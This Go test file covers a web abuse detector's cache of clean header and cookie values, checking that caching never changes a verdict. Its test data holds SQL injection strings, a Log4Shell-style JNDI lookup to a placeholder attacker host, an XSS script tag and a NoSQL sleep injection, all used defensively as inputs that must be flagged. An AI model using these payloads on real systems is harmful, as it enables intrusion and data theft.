package payload

import (
	"context"
	"fmt"
	"reflect"
	"testing"

	"github.com/warden-dev/warden/abuse"
)

// TestCleanMemo checks that remembering clean header values never changes
// a verdict: every request gets the same verdict from a detector with a
// warm memo as from one without, whatever came before it.
const (
	sqlAttack     = "1' union select password from users--"
	repeatsCookie = "a=blue shoes (42); b=blue shoes (42); c=blue shoes (42); d=blue shoes (42); e=blue shoes (42); f=blue shoes (42); g=blue shoes (42); h=blue shoes (42); i=blue shoes (42); j=blue shoes (42)"
)

// cleanCookie is what a browser sends on a site with analytics and a
// consent banner.
const cleanCookie = "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.sig; _ga=GA1.2.123.456; consent=%7B%22ads%22%3Afalse%7D"

// keptOrDisplaced reports whether name: value is remembered, or its slot
// holds another value: the table is direct-mapped with a random seed, so
// two of the test's values share a slot in some runs and the later one
// wins.
func keptOrDisplaced(m *cleanMemo, name, value string) bool {
	return m.slots[m.index(name, value)].Load() != nil
}

// countKeptOrDisplaced is keptOrDisplaced for a countMemo: the part is
// remembered, or another part took its slot (an entry, or the last miss
// the slot saw) after it.
func countKeptOrDisplaced(m *countMemo, a, b string) bool {
	h, _, ok := m.lookup(a, b)
	i := h % countSlots
	return ok || m.slots[i].Load() != nil || m.once[i].Load() != h
}

func TestCleanMemo(t *testing.T) {
	const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36"
	reqs := []struct {
		name, target, header, value string
	}{
		{"browser", "/api/items/1", "User-Agent", browserUA},
		{"attack ua", "/api/items/1", "User-Agent", "Mozilla/5.0' or '1'='1' -- (compatible)"},
		// The same signal from the query first, then from the header:
		// the header's own hit must not make it look clean.
		{"query then ua", "/q?x=${jndi:ldap://evil.example/a}", "User-Agent", "${jndi:ldap://evil.example/a}"},
		{"ua alone", "/api/items/2", "User-Agent", "${jndi:ldap://evil.example/a}"},
		{"one byte off", "/api/items/3", "User-Agent", browserUA[:40] + "<script>alert(1)</script>"},
		{"referer", "/api/items/4", "Referer", "https://shop.example/catalogue?page=2&sort=price"},
		{"referer attack", "/api/items/5", "Referer", "https://shop.example/?q=1 union select password from users--"},
		{"other header", "/api/items/6", "X-Client-Note", "1' union select password from users--"},
		{"other header name", "/api/items/7", "$where", "sleep(5000)"},
		{"other header clean", "/api/items/8", "X-Client-Note", "checkout page, second visit"},
		{"cookie", "/api/items/9", "Cookie", cleanCookie},
		{"cookie attack", "/api/items/9", "Cookie", "session=abc; pref=1' union select password from users--"},
		{"cookie one byte off", "/api/items/9", "Cookie", cleanCookie[:len(cleanCookie)-1] + "<"},
		// Past eight values, a value repeated in the request is skipped,
		// not inspected: such a cookie is not known clean, so not
		// remembered, even when it is.
		{"cookie with repeats", "/api/items/9", "Cookie", repeatsCookie},
		{"cookie attack, repeated", "/api/items/9", "Cookie", repeatsCookie + "; x=" + sqlAttack + "; y=" + sqlAttack},
	}
	// Many query values first: repeats are looked for, and a header whose
	// value repeats an earlier header's is skipped, not inspected.
	const many = "/q?a=1&b=2&c=3&d=4&e=5&f=6&g=7&h=8&i=9"
	const attack = "1' union select password from users--"
	repeated := withHeader(withHeader(get(many), "X-Note-A", attack), "X-Note-B", attack)
	memo := newTestDetector(t)
	plain := newTestDetector(t)
	plain.memo, plain.urls, plain.cookies, plain.cookiePairs = nil, nil, nil, nil
	ctx := context.Background()
	for round := range 3 {
		for _, tt := range reqs {
			r := withHeader(get(tt.target), tt.header, tt.value)
			got, want := memo.Detect(ctx, r), plain.Detect(ctx, r)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("round %d, %s: verdict with memo %+v, without %+v", round, tt.name, got, want)
			}
		}
	}
	for range 2 {
		for _, r := range []*abuse.Request{repeated, withHeader(get("/a"), "X-Note-B", attack),
			withHeader(get(many), "X-Client-Note", "quiet afternoon reading")} {
			// Headers are walked in map order, so which of two equal
			// headers names the evidence varies: compare the judgement.
			got, want := memo.Detect(ctx, r), plain.Detect(ctx, r)
			if got.Confidence != want.Confidence || got.Violation != want.Violation {
				t.Fatalf("%s %v: verdict with memo %+v, without %+v", r.RawQuery, r.Header, got, want)
			}
		}
	}
	// A cookie many visitors share is remembered on its own, whatever
	// else their Cookie headers hold; a pair with an attack never is.
	for i := range 3 {
		for _, c := range []string{fmt.Sprintf("session=%d; consent=%%7B%%22ads%%22%%3Afalse%%7D", i), fmt.Sprintf("session=%d; pref=%s", i, sqlAttack)} {
			r := withHeader(get("/api/items/10"), "Cookie", c)
			if got, want := memo.Detect(ctx, r), plain.Detect(ctx, r); !reflect.DeepEqual(got, want) {
				t.Fatalf("cookie %q: verdict with memo %+v, without %+v", c, got, want)
			}
		}
	}
	if !countKeptOrDisplaced(memo.cookiePairs, "", "consent=%7B%22ads%22%3Afalse%7D") {
		t.Error("a cookie shared by three Cookie headers not remembered")
	}
	if _, _, ok := memo.cookiePairs.lookup("", "pref="+sqlAttack); ok {
		t.Error("a cookie with an attack remembered as clean")
	}
	if !countKeptOrDisplaced(memo.cookies, "", cleanCookie) {
		t.Error("clean Cookie header seen three times not remembered")
	}
	for _, c := range []string{"session=abc; pref=1' union select password from users--", repeatsCookie} {
		if _, _, ok := memo.cookies.lookup("", c); ok {
			t.Errorf("Cookie %q remembered as clean", c)
		}
	}
	if memo.memo.has("X-Note-B", attack) {
		t.Error("a value skipped as a repeat was remembered as clean")
	}
	if !keptOrDisplaced(memo.memo, "X-Client-Note", "quiet afternoon reading") {
		t.Error("clean header after many query values not remembered")
	}
	if memo.Detect(ctx, withHeader(get("/a"), "X-Forwarded-For", "198.51.100.23")); memo.memo.has("X-Forwarded-For", "198.51.100.23") {
		t.Error("per-client header value remembered")
	}
	if !keptOrDisplaced(memo.memo, "User-Agent", browserUA) || !keptOrDisplaced(memo.memo, "X-Client-Note", "checkout page, second visit") {
		t.Error("clean header value not remembered")
	}
	if !keptOrDisplaced(memo.memo, "", "X-Client-Note") || memo.memo.has("", "$where") {
		t.Error("header names: clean one not remembered or one with a signal remembered")
	}
	for _, tt := range append(reqs[1:5:5], reqs[6:8]...) {
		if memo.memo.has(tt.header, tt.value) {
			t.Errorf("%s: value with a signal remembered as clean", tt.name)
		}
	}
	if v := memo.Detect(ctx, withHeader(get("/a"), "User-Agent", reqs[3].value)); v.Confidence < 0.8 {
		t.Errorf("jndi user agent after warm-up: confidence %.2f, want a block", v.Confidence)
	}
}

func BenchmarkBrowserGet(b *testing.B) {
	d := newTestDetector(b)
	r := withHeader(get("/api/products/42?fields=name"), "User-Agent",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36")
	r.Header.Set("Referer", "https://shop.example/catalogue?page=2")
	ctx := context.Background()
	for _, memo := range []struct {
		name string
		m    *cleanMemo
	}{{"memo", d.memo}, {"nomemo", nil}} {
		b.Run(memo.name, func(b *testing.B) {
			d.memo = memo.m
			b.ReportAllocs()
			for b.Loop() {
				d.Detect(ctx, r)
			}
		})
	}
}
